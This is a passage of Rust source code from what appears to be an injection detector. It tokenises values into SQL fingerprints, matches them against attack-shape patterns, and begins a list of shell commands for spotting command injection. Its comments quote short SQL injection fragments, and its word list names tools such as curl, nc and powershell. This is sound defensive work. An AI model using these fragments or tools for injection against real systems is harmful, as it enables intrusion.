    "system_user",
    "tan",
    "time",
    "to_base64",
    "trim",
    "ucase",
    "uncompress",
    "unhex",
    "unicode",
    "unistr",
    "unlikely",
    "updatexml",
    "upper",
    "user",
    "user_name",
    "utc_date",
    "uuid",
    "values",
    "version",
    "xmltype",
    "year",
    "lo_get",
    "lo_import",
    "array_agg",
    "extract",
    "session_user",
    "cume_dist",
    "row_number",
    "rank",
    "dense_rank",
    "ntile",
    "variance",
    "stddev",
    "std",
    "bit_and",
    "bit_or",
    "bit_xor",
    "exists",
    "in",
    "not",
    "count_big",
    "patindex",
    "quotename",
    "stuff",
    "str",
    "datalength",
    "db_id",
    "host_name",
    "object_id",
    "object_name",
    "suser_name",
    "system_user",
    "has_dbaccess",
    "procedure",
];

/// A small, fast hasher for the word tables (FxHash's mixing step): they are probed for every
/// word of every value, and SipHash's protection against collision attacks is not needed for
/// fixed keyword sets.
#[derive(Default, Clone, Copy)]
struct FxHasher(u64);

impl std::hash::Hasher for FxHasher {
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0.rotate_left(5) ^ u64::from(b)).wrapping_mul(0x517c_c1b7_2722_0a95);
        }
    }
    fn finish(&self) -> u64 {
        self.0
    }
}

type FxBuild = std::hash::BuildHasherDefault<FxHasher>;
type WordMap = std::collections::HashMap<&'static str, u8, FxBuild>;
type WordSet = std::collections::HashSet<&'static str, FxBuild>;

static SQL_WORDS: LazyLock<WordMap> = LazyLock::new(|| {
    let mut m = WordMap::default();
    for k in KEYWORDS {
        m.insert(*k, tok::KEYWORD);
    }
    for k in LOGIC_WORDS {
        m.insert(*k, tok::LOGIC);
    }
    for k in STATEMENTS {
        m.insert(*k, tok::STATEMENT);
    }
    m.insert("union", tok::UNION);
    m
});

static SQL_FUNCS: LazyLock<WordSet> = LazyLock::new(|| SQL_FUNCTIONS.iter().copied().collect());

#[derive(Debug, Clone, Copy)]
struct Token {
    kind: u8,
    start: usize,
    end: usize,
}

/// Most tokens kept per value: fingerprints of very long values are cut, bounding the work.
const MAX_TOKENS: usize = 256;

/// Tokenises `s` (lower case). `quote`, when set, means the text starts inside a string opened
/// by that quote before it.
fn sql_tokens(s: &[u8], base: usize, quote: Option<u8>, out: &mut Vec<Token>) {
    out.clear();
    let mut i = 0;
    let at = |i: usize| s.get(i).copied().unwrap_or(0);
    if let Some(q) = quote {
        // The leading string runs to the first closing quote.
        let end = s.iter().position(|&b| b == q).map_or(s.len(), |p| p + 1);
        out.push(Token {
            kind: tok::STRING,
            start: base,
            end: base + end,
        });
        i = end;
    }
    while i < s.len() && out.len() < MAX_TOKENS {
        let b = at(i);
        let start = i;
        let kind = match b {
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | 0xa0 | 0 => {
                i += 1;
                continue;
            }
            b'\'' | b'"' | b'`' => {
                i += 1;
                while i < s.len() {
                    let c = at(i);
                    if c == b'\\' {
                        i += 2;
                        continue;
                    }
                    i += 1;
                    if c == b {
                        // SQL doubles a quote to escape it.
                        if at(i) == b {
                            i += 1;
                            continue;
                        }
                        break;
                    }
                }
                if b == b'`' {
                    // A quoted identifier: SQL, not prose.
                    tok::VARIABLE
                } else {
                    tok::STRING
                }
            }
            b'0'..=b'9' => {
                i += 1;
                if b == b'0' && matches!(at(i), b'x' | b'b') {
                    i += 1;
                }
                while i < s.len() && (at(i).is_ascii_alphanumeric() || at(i) == b'.') {
                    i += 1;
                }
                tok::NUMBER
            }
            b'.' if at(i + 1).is_ascii_digit() => {
                i += 1;
                while i < s.len() && (at(i).is_ascii_alphanumeric() || at(i) == b'.') {
                    i += 1;
                }
                tok::NUMBER
            }
            b'a'..=b'z' | b'_' | b'$' | 0x80..=0xff => {
                while i < s.len()
                    && (at(i).is_ascii_alphanumeric()
                        || matches!(at(i), b'_' | b'$' | b'.')
                        || at(i) >= 0x80)
                {
                    i += 1;
                }
                let word = std::str::from_utf8(s.get(start..i).unwrap_or_default()).unwrap_or("");
                let word = word.trim_end_matches('.');
                // A function is a word followed by `(`, possibly after spaces or a comment.
                let mut j = i;
                while matches!(at(j), b' ' | b'\t' | b'\n' | b'\r') {
                    j += 1;
                }
                if at(j) == b'/' && at(j + 1) == b'*' {
                    let close = memchr::memmem::find(s.get(j + 2..).unwrap_or_default(), b"*/");
                    if let Some(c) = close {
                        j += c + 4;
                        while matches!(at(j), b' ' | b'\t') {
                            j += 1;
                        }
                    }
                }
                let last = word.rsplit('.').next().unwrap_or(word);
                // A word right after a dot is a member (`df.div`, `x.select`), not SQL.
                let member = start > 0 && s.get(start - 1) == Some(&b'.');
                let dotted = word.contains('.');
                if member {
                    tok::WORD
                } else if at(j) == b'('
                    && SQL_FUNCS.contains(last)
                    && !dotted
                    // `if (n <= 1)` is a statement of C-like code; SQL's `IF(` is a call.
                    && !(word == "if" && j > i)
                {
                    tok::FUNCTION
                } else if let Some(&k) = SQL_WORDS.get(word) {
                    k
                } else if word == "true" || word == "false" {
                    // Boolean literals compare like numbers (`' or true--`).
                    tok::NUMBER
                } else {
                    tok::WORD
                }
            }
            b'@' if i == 0
                || !s
                    .get(i - 1)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'.') =>
            {
                i += 1;
                if at(i) == b'@' {
                    i += 1;
                }
                while i < s.len()
                    && (at(i).is_ascii_alphanumeric() || matches!(at(i), b'_' | b'.' | b'$'))
                {
                    i += 1;
                }
                tok::VARIABLE
            }
            b'(' => {
                i += 1;
                tok::LPAREN
            }
            b')' => {
                i += 1;
                tok::RPAREN
            }
            b',' => {
                i += 1;
                tok::COMMA
            }
            b';' => {
                i += 1;
                tok::SEMI
            }
            b'#' => {
                i = s.len();
                tok::COMMENT
            }
            b'-' if at(i + 1) == b'-' => {
                i = s.len();
                tok::COMMENT
            }
            b'/' if at(i + 1) == b'*' => {
                // MySQL runs `/*!50000 select */`; treat its body as code.
                if at(i + 2) == b'!' {
                    i += 3;
                    while at(i).is_ascii_digit() {
                        i += 1;
                    }
                    continue;
                }
                match memchr::memmem::find(s.get(i + 2..).unwrap_or_default(), b"*/") {
                    Some(c) => i += c + 4,
                    None => i = s.len(),
                }
                // A comment with code after it is whitespace to SQL (`SELECT/**/x/**/FROM`);
                // only one that ends the value ends a breakout.
                if s.get(i..)
                    .is_some_and(|rest| rest.iter().any(|b| !b.is_ascii_whitespace()))
                {
                    continue;
                }
                tok::COMMENT
            }
            b'*' if at(i + 1) == b'/' => {
                i += 2;
                continue;
            }
            b':' if at(i + 1) == b':' => {
                i += 2;
                tok::COLON_CAST
            }
            b'|' if at(i + 1) == b'|' => {
                i += 2;
                tok::LOGIC
            }
            b'&' if at(i + 1) == b'&' => {
                i += 2;
                tok::LOGIC
            }
            b'=' | b'<' | b'>' | b'!' | b'+' | b'-' | b'*' | b'/' | b'%' | b'^' | b'|' | b'&'
            | b'~' | b':' | b'?' => {
                i += 1;
                while matches!(
                    at(i),
                    b'=' | b'<'
                        | b'>'
                        | b'!'
                        | b'~'
                        | b'@'
                        | b'|'
                        | b'&'
                        | b'?'
                        | b'*'
                        | b'/'
                        | b'-'
                        | b'#'
                ) && i - start < 3
                {
                    // `--` starts a comment, not an operator.
                    if at(i) == b'-' && at(i + 1) == b'-' {
                        break;
                    }
                    if at(i) == b'/' && at(i + 1) == b'*' {
                        break;
                    }
                    i += 1;
                }
                let op = s.get(start..i).unwrap_or_default();
                match op {
                    b"=" | b"<>" | b"!=" | b"<" | b">" | b"<=" | b">=" | b"<=>" | b"!<" | b"!>"
                    | b":=" | b"@>" | b"<@" | b"?" | b"?|" | b"?&" | b"->>" | b"#>" | b"#>>"
                    | b"#-" | b"@@" | b"~*" | b"!~" | b"^=" | b"->" => tok::OPERATOR,
                    b"==" | b"===" | b"!==" | b"=>" | b"**" | b"//" | b":" | b">>>" | b"+="
                    | b"-=" | b"*=" | b"/=" | b"%=" | b"|=" | b"&=" | b"?." | b"??" => tok::PROG,
                    _ => tok::ARITH,
                }
            }
            _ => {
                i += 1;
                continue;
            }
        };
        out.push(Token {
            kind,
            start: base + start,
            end: base + i.min(s.len()),
        });
    }
}

/// Attack shapes over fingerprints. Each is matched as a substring of the fingerprint.
/// `B` in a pattern stands for a breakout: a string, number, or closing parenthesis.
const STRONG_SHAPES: &[&str] = &[
    "B&sos", "B&non", "B&nos", "B&son", "B&vov", "B&vos", "B&von", "B&sks", "B&nkn", "B&nks",
    "B&skn", "B&(non", "B&(sos", "B&(nos", "B&(E", "B&E", "B&f(", "B&(f(", "B&kon", "B&kos",
    "B&nc", "B&sc", "B&k(E", "B&k(s", "B&k(n", "B&n&", "B&s&", "B&sol", "B&nol", "B&(", "B&nac",
    "B&sas", "B&nan", "B&kc", "B&wos", "B&won", "B&wow", "B&wks", "B&wkn", "B&wkk", "B&vk", "B&sk",
    "B&nk", "UE", "UkE", "U(E", "Uc", ";E", ";kE", ";v", "Bc", "Ef(", "E(f(", "E(k", "Eok", "Evk",
    "Enk", "Esk", "E(E", "Ekw", "Ewk", "f(Ek", "f(E", "(E", "Ewt", "Ea k", "Eak", "Eakwk", "Ekwkw",
    "Ewkwkw", "Ewkwo", "Ekwo", "saf(", "Baf(s", "B&na", "B&no", ";kv", "kEn", "kE(", "k(non)k",
    "k(sos)k", "k(nos)k", "k(son)k", "B)&f(", "Bt", "nt", "st", ")t", "Bof(", "Bo(f(", "B&k;",
    "B&k)",
    // A statement on a table named with a quoted identifier: `ALTER TABLE `t``.
    "Ekv",
    // A breakout, a condition between two columns, and a terminator: `' and pw like pw;`.
    "B&wkw;", "B&wkwc", "B&wkwks",
];

/// Every shape with each breakout letter `B` expanded to `s`, `n` and `)`, in one automaton,
/// so a fingerprint is matched against all shapes in one pass. Each pattern maps back to the
/// index of its shape in [`STRONG_SHAPES`].
static SHAPES: LazyLock<Option<(AhoCorasick, Vec<usize>)>> = LazyLock::new(|| {
    let mut patterns: Vec<Vec<u8>> = Vec::new();
    let mut owner: Vec<usize> = Vec::new();
    for (idx, shape) in STRONG_SHAPES.iter().enumerate() {
        let mut variants: Vec<Vec<u8>> = vec![Vec::new()];
        for &c in shape.as_bytes().iter().filter(|&&c| c != b' ') {
            let choices: &[u8] = if c == b'B' {
                &[tok::STRING, tok::NUMBER, tok::RPAREN]
            } else {
                std::slice::from_ref(&c)
            };
            variants = variants
                .iter()
                .flat_map(|v| {
                    choices.iter().map(move |&ch| {
                        let mut n = v.clone();
                        n.push(ch);
                        n
                    })
                })
                .collect();
        }
        for v in variants {
            patterns.push(v);
            owner.push(idx);
        }
    }
    let ac = AhoCorasickBuilder::new()
        .match_kind(MatchKind::Standard)
        .build(&patterns)
        .ok()?;
    Some((ac, owner))
});

/// The indices of the shapes found in `fp`, as a bit set.
fn matched_shapes(fp: &[u8], ends: &mut [u16; 128]) -> u128 {
    let Some((ac, owner)) = SHAPES.as_ref() else {
        return 0;
    };
    let mut set = 0u128;
    for m in ac.find_overlapping_iter(fp) {
        if let Some(&idx) = owner.get(m.pattern().as_usize()) {
            if idx < 128 && set & (1u128 << idx) == 0 {
                set |= 1u128 << idx;
                if let Some(e) = ends.get_mut(idx) {
                    *e = u16::try_from(m.end()).unwrap_or(u16::MAX);
                }
            }
        }
    }
    set
}

/// Values of a request-like text: lines, `&`-separated pairs and the text after the first `=`.
fn values(v: &[u8], escaped: &dyn Fn(usize) -> bool) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut start = 0;
    let bounded = |s: usize, e: usize, out: &mut Vec<(usize, usize)>| {
        if e > s && out.len() < 4096 {
            out.push((s, e));
        }
    };
    for (i, &b) in v
        .iter()
        .enumerate()
        .chain(std::iter::once((v.len(), &b'\n')))
    {
        // A separator that arrived escaped (`%26`, `%3D`) is data, not structure.
        if (b == b'\n' || b == b'&' || (b == b'?' && start == 0)) && !escaped(i) {
            // The value after the key, when the piece is `key=value`.
            let piece = v.get(start..i).unwrap_or_default();
            if b == b'\n' && table_row(piece) {
                // A markdown table row: each cell is a value of its own.
                let mut cell = start;
                for (k, &c) in piece.iter().enumerate() {
                    if c == b'|' {
                        bounded(cell, start + k, &mut out);
                        cell = start + k + 1;
                    }
                }
                bounded(cell, i, &mut out);
                start = i + 1;
                continue;
            }
            let eq = piece
                .iter()
                .enumerate()
                .take(80)
                .position(|(k, &c)| c == b'=' && !escaped(start + k));
            let key_ok = eq.is_some_and(|e| {
                piece.get(..e).is_some_and(|k| {
                    !k.is_empty()
                        && !k
                            .iter()
                            .any(|&c| c == b' ' || c == b'\'' || c == b'"' || c == b'(')
                })
            });
            match eq {
                Some(e) if key_ok => {
                    bounded(start + e + 1, i, &mut out);
                    // The key too: payloads are also sent as parameter names.
                    bounded(start, start + e, &mut out);
                }
                _ => {
                    bounded(start, i, &mut out);
                    // `pay%3D…`: a pair encoded once more, so its `=` arrived escaped; the
                    // application may well decode it again, so the value is judged alone too.
                    let escaped_eq = piece
                        .iter()
                        .enumerate()
                        .take(40)
                        .position(|(k, &c)| c == b'=' && escaped(start + k));
                    let key = escaped_eq.and_then(|e| piece.get(..e));
                    if let (Some(e), Some(key)) = (escaped_eq, key) {
                        if !key.is_empty()
                            && key
                                .iter()
                                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
                        {
                            bounded(start + e + 1, i, &mut out);
                        }
                    }
                }
            }
            start = i + 1;
        }
    }
    out
}

/// Whether a line is a markdown table row: `| a | b |`, at least two cells.
fn table_row(line: &[u8]) -> bool {
    let t = line.trim_ascii();
    t.len() >= 5
        && t.first() == Some(&b'|')
        && t.last() == Some(&b'|')
        && t.get(1)
            .is_some_and(|&c| c == b' ' || c == b'-' || c == b':')
        && memchr::memchr_iter(b'|', t).count() >= 3
        && memchr::memmem::find(t, b"||").is_none()
}

/// Bytes without which no strong SQL shape can form.
static SQL_SIGNAL: [bool; 256] = {
    let mut t = [false; 256];
    let signal = b"'\"`()=<>;#@|&*";
    let mut i = 0;
    while i < signal.len() {
        t[signal[i] as usize] = true;
        i += 1;
    }
    t
};

fn sql_scan(v: &[u8], view: &View<'_>, out: &mut Vec<Hit>) {
    // Cheap gate: SQL needs a quote, an operator, a paren, a comment or a keyword-ish letter run.
    if v.len() < 2 {
        return;
    }
    let mut toks = Vec::with_capacity(MAX_TOKENS);
    let mut fp: Vec<u8> = Vec::with_capacity(MAX_TOKENS);
    for (s, e) in values(v, &|i| view.is_escaped(i)) {
        let Some(val) = v.get(s..e) else {
            continue;
        };
        // No strong shape can form without one of these bytes (quotes, comparisons, brackets,
        // comments, separators); long values without any are prose and skipped.
        if val.len() > 80
            && !val
                .iter()
                .any(|&b| SQL_SIGNAL.get(b as usize).copied().unwrap_or(false))
            && memchr::memmem::find(val, b"union").is_none()
            && memchr::memmem::find(val, b"select").is_none()
        {
            continue;
        }
        let trimmed_len = val.iter().filter(|b| !b.is_ascii_whitespace()).count();
        if trimmed_len < 2 {
            continue;
        }
        // A quote context only matters when something SQL-like follows the quote; plain
        // apostrophes in prose (`don't`) would only double the work.
        let sqlish = val.iter().any(|&b| {
            matches!(
                b,
                b'=' | b'(' | b'#' | b';' | b'|' | b'&' | b'<' | b'>' | b'*'
            )
        }) || memchr::memmem::find(val, b"--").is_some();
        let worth = sqlish || val.len() <= 256;
        let has_sq = worth && val.contains(&b'\'');
        let has_dq = worth && val.contains(&b'"');
        let contexts: [(Option<u8>, bool); 3] =
            [(None, true), (Some(b'\''), has_sq), (Some(b'"'), has_dq)];
        let mut best: Option<Hit> = None;
        for (quote, run) in contexts {
            if !run {
                continue;
            }
            sql_tokens(val, s, quote, &mut toks);
            fp.clear();
            fp.extend(toks.iter().map(|t| t.kind));
            if let Some(h) = judge(&fp, &toks, quote.is_some(), val, s) {
                if best.as_ref().is_none_or(|b| h.severity > b.severity) {
                    best = Some(h);
                }
            }
        }
        if let Some(h) = best {
            out.push(h);
        }
    }
}

/// Decides whether one value's fingerprint is an attack.
/// `base` is the offset of `val` in the view, where token offsets count from.
fn judge(fp: &[u8], toks: &[Token], quoted_context: bool, val: &[u8], base: usize) -> Option<Hit> {
    let first = toks.first()?;
    let last = toks.last()?;
    let (start, end) = (first.start, last.end);
    let words = fp.iter().filter(|&&k| k == tok::WORD).count();
    // Prose: many bare words around any SQL; such a value is judged only on strong shapes that
    // need a quote or operator to form.
    let mut ends = [0u16; 128];
    let matched = matched_shapes(fp, &mut ends);
    for (idx, shape) in STRONG_SHAPES
        .iter()
        .enumerate()
        .take(if matched == 0 { 0 } else { 128 })
    {
        let sb = shape.as_bytes();
        if idx < 128 && matched & (1u128 << idx) != 0 {
            // Prose is judged around the match, so a payload deep in a long value is still
            // seen and SQL words scattered through a paragraph are not.
            let at = ends.get(idx).copied().unwrap_or(0) as usize;
            let window = fp
                .get(at.saturating_sub(sb.len() + 8)..(at + 8).min(fp.len()))
                .unwrap_or(fp);
            let local_words = window.iter().filter(|&&k| k == tok::WORD).count();
            let prose = (local_words * 2 > window.len() + 2 && local_words >= 4)
                || window.contains(&tok::PROG);
            if prose && !sb.iter().any(|&c| matches!(c, b'U' | b';' | b'c')) {
                continue;
            }
            // `;v`: a stacked statement starting with a variable (`; @x :=`), not a list of
            // quoted identifiers (`` `a`;`b` ``).
            if sb.starts_with(b";") && sb.ends_with(b"v") {
                let var = toks.get(at.saturating_sub(1));
                let text = var.and_then(|t| val.get(t.start.saturating_sub(base)..));
                if text.is_some_and(|t| t.first() == Some(&b'`')) {
                    continue;
                }
            }
            // `Bc`: a breakout then a comment; only in a quoted context or right after a quote.
            if *shape == "Bc" && !(quoted_context || fp.first() == Some(&tok::STRING)) {
                continue;
            }
            let sev = if prose { Medium } else { High };
            return Some(hit("sqli", sev, 0.9, start, end));
        }
    }
    // A tautology or contradiction probe in a short value: `1=1`, `'a'='a'`, `42 like 42`,
    // `11!=1` (equal operands compared for equality, different ones for inequality).
    if val.len() <= 64 && words <= 2 {
        for (k, w) in toks.windows(3).enumerate() {
            let (Some(a), Some(op), Some(b)) = (w.first(), w.get(1), w.get(2)) else {
                continue;
            };
            let operand = |t: &Token| matches!(t.kind, tok::NUMBER | tok::STRING);
            if !operand(a) || !operand(b) {
                continue;
            }
            // Arithmetic around the comparison (`(8 % 4) = 0 + 0 = 0`) is a sum, not a probe.
            let arithmetic = |t: Option<&Token>| {
                t.is_some_and(|t| matches!(t.kind, tok::ARITH | tok::OPERATOR | tok::PROG))
            };
            // The left operand must open the comparison: at the start, after a logic operator,
            // a clause keyword, a bracket or a closed string (`dp[i][0] = 0` is an assignment).
            let before = k.checked_sub(1).and_then(|p| toks.get(p));
            let opens = before.is_none_or(|t| {
                matches!(
                    t.kind,
                    tok::LOGIC
                        | tok::KEYWORD
                        | tok::LPAREN
                        | tok::STRING
                        | tok::RPAREN
                        | tok::COMMA
                )
            });
            if !opens || arithmetic(before) || arithmetic(toks.get(k + 3)) {
                continue;
            }

            let text = |t: &Token| {
                let raw = val
                    .get(t.start.saturating_sub(base)..t.end.saturating_sub(base))
                    .unwrap_or_default();
                let trimmed = raw
                    .strip_prefix(b"'")
                    .or_else(|| raw.strip_prefix(b"\""))
                    .unwrap_or(raw);
                trimmed
                    .strip_suffix(b"'")
                    .or_else(|| trimmed.strip_suffix(b"\""))
                    .unwrap_or(trimmed)
                    .to_vec()
            };
            let opt = val
                .get(op.start.saturating_sub(base)..op.end.saturating_sub(base))
                .unwrap_or_default();
            let same = text(a) == text(b);
            let eq = matches!(opt, b"=" | b"<=>" | b"like" | b"glob" | b"==" | b"is");
            let ne = matches!(opt, b"!=" | b"<>" | b"^=");
            if (eq && same) || (ne && !same) {
                return Some(hit("sqli", Medium, 0.6, start, end));
            }
        }
    }
    // A quote closed and a statement, `UNION` or `;` right after it: `'UNION A`, `' alter/`,
    // `';print'`.
    if quoted_context
        && val.len() <= 64
        && fp.len() <= 3
        && matches!(fp.get(1), Some(&(tok::UNION | tok::STATEMENT | tok::SEMI)))
    {
        return Some(hit("sqli", Medium, 0.6, start, end));
    }
    // A quote broken out of into a column list: `', 2, 1`, `'', '', 13`.
    if quoted_context
        && fp.len() >= 3
        && fp.get(1) == Some(&tok::COMMA)
        && fp
            .iter()
            .all(|&k| matches!(k, tok::STRING | tok::NUMBER | tok::COMMA))
        && fp.last().is_some_and(|&k| k != tok::COMMA)
    {
        return Some(hit("sqli", Medium, 0.6, start, end));
    }
    // A short value that opens with a logic operator, possibly after a closed quote or bracket,
    // and goes on with a comparison or a bracket: `AND 7639=(`, `' or xyz!`, `|| c == '`.
    if val.len() <= 64 && fp.len() <= 12 && words <= 2 {
        let skip = usize::from(matches!(fp.first(), Some(&(tok::STRING | tok::RPAREN))));
        let rest = fp.get(skip..).unwrap_or_default();
        // A number alone after the operator counts only without words (`AND 7`, not
        // `and 7 oranges`).
        let opens_logic = rest.first() == Some(&tok::LOGIC)
            && rest.len() >= 2
            && rest.iter().skip(1).any(|&k| {
                matches!(
                    k,
                    tok::OPERATOR
                        | tok::PROG
                        | tok::ARITH
                        | tok::LPAREN
                        | tok::STRING
                        | tok::COMMENT
                ) || (k == tok::NUMBER && words == 0)
            });
        if opens_logic && (skip == 1 || !quoted_context) && words <= 1 {
            return Some(hit("sqli", Medium, 0.6, start, end));
        }
        // A quote broken out of and a comment closing the value: `x'-email--`.
        if quoted_context && fp.last() == Some(&tok::COMMENT) && fp.len() <= 12 {
            return Some(hit("sqli", Medium, 0.6, start, end));
        }
    }
    // A list for `IN`: `IN (1, 2, 3)`, also as a quoted key (`"in (0,1)"`).
    let lead = usize::from(quoted_context && fp.first() == Some(&tok::STRING));
    let list = fp.get(lead..).unwrap_or_default();
    if val.len() <= 512
        && list.first() == Some(&tok::KEYWORD)
        && list.get(1) == Some(&tok::LPAREN)
        && list.contains(&tok::COMMA)
        && list.get(2..).is_some_and(|rest| {
            rest.iter()
                .take_while(|&&k| k != tok::RPAREN)
                .all(|&k| matches!(k, tok::NUMBER | tok::STRING | tok::COMMA))
        })
    {
        return Some(hit("sqli", Low, 0.45, start, end));
    }
    // A statement on one name, ended by `;` or a comment: `DROP x;--`, `DROP/**/x`.
    if val.len() <= 64
        && fp.first() == Some(&tok::STATEMENT)
        && fp.get(1) == Some(&tok::WORD)
        && (fp.len() >= 3 || memchr::memmem::find(val, b"/*").is_some())
        && fp
            .get(2..)
            .is_some_and(|r| r.iter().all(|&k| matches!(k, tok::SEMI | tok::COMMENT)))
    {
        return Some(hit("sqli", Low, 0.45, start, end));
    }
    // Weak: a short value made only of SQL tokens, with at least one that only SQL has.
    if val.len() > 80 || quoted_context || words > 1 || fp.contains(&tok::PROG) {
        return None;
    }
    if fp.len() == 1 {
        let word = val
            .get(first.start.saturating_sub(first.start)..)
            .unwrap_or_default();
        let _ = word;
        let only = fp.first().copied().unwrap_or(0);
        let t = std::str::from_utf8(val).unwrap_or("").trim();
        let single = matches!(only, tok::LOGIC | tok::ARITH | tok::OPERATOR)
            && matches!(
                t,
                "||" | "&&"
                    | "<>"
                    | "<=>"
                    | "!="
                    | "<="
                    | ">="
                    | ">>"
                    | "<<"
                    | "->"
                    | "->>"
                    | "#>"
                    | "#>>"
                    | "@>"
                    | "<@"
                    | "~*"
                    | "!~"
            )
            || matches!(
                t,
                "rlike"
                    | "regexp"
                    | "xor"
                    | "notnull"
                    | "isnull"
                    | "sounds like"
                    | "glob"
                    | "utl_http"
                    | "schema_name"
                    | "sysdate"
                    | "nvarchar"
                    | "information_schema"
                    | "having"
            );
        if single {
            return Some(hit("sqli", Low, 0.4, start, end));
        }
        return None;
    }
    let has = |k: u8| fp.contains(&k);
    let statement_used = fp
        .iter()
        .position(|&k| k == tok::STATEMENT)
        .is_some_and(|p| {
            fp.get(p + 1).is_some_and(|&n| {
                matches!(
                    n,
                    tok::KEYWORD
                        | tok::FUNCTION
                        | tok::NUMBER
                        | tok::STRING
                        | tok::VARIABLE
                        | tok::STATEMENT
                        | tok::COMMENT
                )
            })
        });
    let logic_used = fp.iter().enumerate().any(|(p, &k)| {
        k == tok::LOGIC && p > 0 && fp.get(p + 1).is_some_and(|&n| n != tok::WORD || p > 0)
    });
    let keywords = fp.iter().filter(|&&k| k == tok::KEYWORD).count();
    let ops = fp.iter().filter(|&&k| k == tok::OPERATOR).count();
    let union_used = fp.iter().position(|&k| k == tok::UNION).is_some_and(|p| {
        fp.get(p + 1).is_some_and(|&n| {
            matches!(
                n,
                tok::STATEMENT | tok::KEYWORD | tok::LPAREN | tok::COMMENT
            )
        })
    });
    let comment_breakout = fp.windows(2).any(|w| {
        matches!(w.first(), Some(&(tok::STRING | tok::NUMBER | tok::RPAREN)))
            && w.get(1) == Some(&tok::COMMENT)
    });
    // `HAVING 1=`, `execute php`, `length||(`: clause or call fragments.
    let text_of = |t: &Token| {
        val.get(t.start.saturating_sub(base)..t.end.saturating_sub(base))
            .and_then(|b| std::str::from_utf8(b).ok())
            .unwrap_or("")
    };
    let clause = val.len() <= 40
        && fp.first() == Some(&tok::KEYWORD)
        && matches!(fp.get(1), Some(&(tok::NUMBER | tok::STRING)))
        && fp.get(2) == Some(&tok::OPERATOR);
    let exec = val.len() <= 24
        && fp.len() == 2
        && fp.first() == Some(&tok::STATEMENT)
        && matches!(fp.get(1), Some(&(tok::WORD | tok::LPAREN)));
    let call = val.len() <= 24
        && fp.last() == Some(&tok::LPAREN)
        && fp.len() >= 2
        && SQL_FUNCS.contains(text_of(first));
    if clause || exec || call {
        return Some(hit("sqli", Low, 0.45, start, end));
    }
    // A closed bracket then an operator word: `) like (`, `)or(`.
    let bracketed = words == 0
        && fp.len() <= 4
        && fp.first() == Some(&tok::RPAREN)
        && (has(tok::KEYWORD) || has(tok::LOGIC));
    let sql_only = bracketed
        || has(tok::FUNCTION)
        || union_used
        || has(tok::COLON_CAST)
        || statement_used
        // A logic operator between bare numbers is English (`from 1990 and 1994`) unless
        // nothing else is there (`1 or 2`).
        || (logic_used
            && (ops > 0
                || has(tok::STRING)
                || (has(tok::NUMBER) && words == 0 && keywords == 0)))
        || (keywords >= 2
            && (ops > 0
                || has(tok::NUMBER)
                || has(tok::LPAREN)
                || has(tok::RPAREN)
                || has(tok::STRING)
                || has(tok::VARIABLE)
                || (words == 0 && fp.len() <= 2)))
        // Three keywords and nothing else can be English (`All Join In`); some structure must
        // come with them.
        || (keywords >= 3
            && words <= 2
            && val.len() <= 60
            && (words >= 1
                || fp
                    .iter()
                    .any(|&k| !matches!(k, tok::KEYWORD | tok::WORD | tok::LOGIC))))
        || comment_breakout;
    if sql_only {
        return Some(hit("sqli", Low, 0.5, start, end));
    }
    None
}

// ---------------------------------------------------------------------------------------------
// Command injection with a word list

/// Commands that are unambiguous in text: a separator followed by one of these is an attack.
const COMMANDS_STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "sh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "chmod",
    "chown",
    "passwd",
    "useradd",
    "usermod",
    "crontab",
    "nohup",
    "sudo",
    "visudo",
    "ping",
    "traceroute",
    "tracert",
    "nmap",
    "socat",
    "xterm",
    "base64",
    "xxd",
    "hexdump",
    "strace",
    "ltrace",
    "gdb",
    "gcc",
    "cc",
    "c89",
    "c99",
    "g++",
    "make",
    "tar",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "zcat",
    "zstdcat",
    "zstd",
    "xz",
    "7z",
    "rm",
    "mkdir",
    "rmdir",
    "touch",
    "cat",
    "tac",
    "ls",
    "id",
    "pwd",
    "env",
    "printenv",
    "ps",
    "pkill",
    "killall",
    "lsof",
    "dig",
    "host",
    "scp",
    "ssh",
    "ftp",
    "tftp",
    "rsync",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "xargs",
    "tee",
    "nl",
    "od",
    "strings",
    "readelf",
    "objdump",
    "chroot",
    "mount",
    "umount",
    "lastlog",
    "last",
    "who",
    "w",
    "uptime",
    "hostname",
    "ip",
    "arp",
    "route",
    "iptables",
    "systemctl",
    "service",
    "journalctl",
    "dmesg",
    "sysctl",
    "modprobe",
    "insmod",
    "lsmod",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "apk",
    "pip",
    "pip3",
    "npm",
    "gem",
    "composer",
    "docker",
    "kubectl",
    "ansible",
    "ansible-playbook",
    "ansible-galaxy",
    "ansible-console",
    "ansible-pull",
    "ansible-config",
    "ansible-doc",
    "ansible-vault",
    "ansible-inventory",
    "chef",
    "chef-client",
    "chef-shell",
    "chef-vault",
    "chef-run",
    "knife",
    "puppet",
    "salt",
    "cscli",
    "vi",
    "vim",
    "nvim",
    "emacs",
    "nano",
    "ed",
    "ex",
    "view",
    "rview",
    "busybox",
    "openssl",
    "certutil",
    "powershell",
    "pwsh",
    "cmd",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "net",
    "net1",
    "schtasks",
    "reg",
    "tasklist",
    "taskkill",
    "systeminfo",
    "bcdboot",
    "bcdedit",
    "wevtutil",
    "vssadmin",
    "icacls",
    "cacls",
    "attrib",
    "dir",
    "del",
    "copy",
    "xcopy",
    "robocopy",
    "ren",
    "move",
    "mklink",
    "sc",
    "at",
    "echo",
    "printf",
    "exec",
    "eval",
    "source",
    "export",
    "unset",
    "alias",
    "history",
    "sleep",
    "timeout",
    "yes",
    "perf",
    "flock",
    "cpulimit",
    "uconv",
    "iconv",
    "rev",
    "cut",
    "sort",
    "uniq",
    "wc",
    "diff",
    "cmp",
    "file",
    "stat",
    "find",
    "locate",
    "which",
    "whereis",
    "ll",
    "la",
    "dd",
    "shred",
    "mkfifo",
    "mknod",
    "ln",
